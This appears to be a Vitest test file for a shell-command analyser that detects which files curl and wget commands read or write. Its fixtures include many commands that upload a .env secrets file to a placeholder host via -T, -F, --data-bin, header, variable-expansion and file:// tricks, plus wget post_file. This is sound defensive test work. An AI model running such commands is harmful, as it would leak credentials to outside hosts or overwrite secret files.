import { describe, expect, it } from 'vitest';
import { problems, touched } from '../../test/shell/reading.js';

describe('what curl sends', () => {
  it.each([
    ['curl -T "{.env,a}" http://x', ['read .env (curl)', 'read a (curl)']],
    ['curl -T ".e[m-n]v" http://x', ['read .emv (curl)', 'read .env (curl)']],
    ['curl -gT "{.env,a}" http://x', ['read {.env,a} (curl)']],
    ["curl -F 'f=@a,.env;type=x' http://x", ['read a (curl)', 'read .env (curl)']],
    [`curl -F 'f=@".env";type=x' http://x`, ['read .env (curl)']],
    ["curl -F 'f=@a;headers=@.env' http://x", ['read a (curl)', 'read .env (curl)']],
    ["curl -F 'f=x;headers=<.env' http://x", ['read .env (curl)']],
    ["curl -F 'f=@a;filename=.env' http://x", ['read a (curl)']],
    ["curl -F 'f=a,.env' http://x", []],
    ['curl --data-bin @.env http://x', ['read .env (curl)']],
    ['curl http://x -:d @.env http://y', ['read .env (curl)']],
    ['curl --url-query n@.env http://x', ['read .env (curl)']],
    ["curl --url-query 'a=b@.env' http://x", []],
    ['curl --proxy-header @.env http://x', ['read .env (curl)']],
    ['curl -E .env:pw http://x', ['read .env (curl)']],
    [`curl -d '{"a":"@b"}' http://x`, []],
    ['curl --mail-from a@b.c --mail-rcpt .env smtp://x', []],
  ])('%s', (command, expected) => {
    expect(touched(command)).toEqual(expected);
  });

  it('may come from a variable', () => {
    expect(touched("curl --variable x@.env --expand-data '{{x}}' http://x")).toEqual(['read .env (curl)']);
    expect(touched("curl --variable f=.env --expand-data '@{{f}}' http://x")).toEqual(['read .env (curl)']);
    expect(touched("curl --variable f=@.env --expand-data '{{f}}' http://x")).toEqual(['read .env (curl)']);
    expect(problems("curl --variable %F --expand-data '@{{F}}' http://x")).toEqual(['computed']);
    expect(problems("curl --variable %T --expand-header 'Token: {{T}}' http://x")).toEqual([]);
  });
});

describe('a file: URL', () => {
  it.each([
    "curl 'file:///repo/.e[n-n]v'",
    "curl 'file:///repo/{.env}'",
    "curl 'file:///repo/.env?x'",
    "curl 'file:///repo/.env#x'",
    'curl file://127.0.0.1/repo/.env',
    'curl --proto-default file /repo/.env',
  ])('%s', (command) => {
    expect(touched(command)).toEqual(['read .env (curl)']);
  });
});

describe('what curl writes', () => {
  it.each([
    ["curl -o '#1' 'http://x/{.env,a}'", ['write .env (curl)', 'write a (curl)']],
    ["curl -o '#2-#1' 'http://x/{a}/[1-2]'", ['write 1-a (curl)', 'write 2-a (curl)']],
    ['curl --output-dir sub -o .env http://x', ['write sub (curl)', 'write sub/.env (curl)']],
    ["curl -O 'http://x/.e[m-n]v'", ['write .emv (curl)', 'write .env (curl)']],
    ["curl -O 'http://x/[1-900].jpg'", ['write . (curl)']],
    ["curl -w '%output{.env}%{http_code}' http://x", ['write .env (curl)']],
    ["curl -w '%{http_code}' http://x", []],
    ['curl --hsts .env http://x', ['read .env (curl)', 'write .env (curl)']],
  ])('%s', (command, expected) => {
    expect(touched(command)).toEqual(expected);
  });
});

describe('an option of wget', () => {
  it.each([
    ['wget -e post_file=.env -O- http://x', ['read .env (wget)']],
    ["wget -e 'output_document = .env' --spider http://x", ['write .env (wget)']],
    ['wget -e input=.env', ['read .env (wget)']],
    ['wget -e robots=off --spider http://x', []],
    ['wget --rejected-log=.env --spider http://x', ['write .env (wget)']],
    ['wget --waitretry 1 --read-timeout 20 --spider http://x/.env', []],
  ])('%s', (command, expected) => {
    expect(touched(command)).toEqual(expected);
  });
});
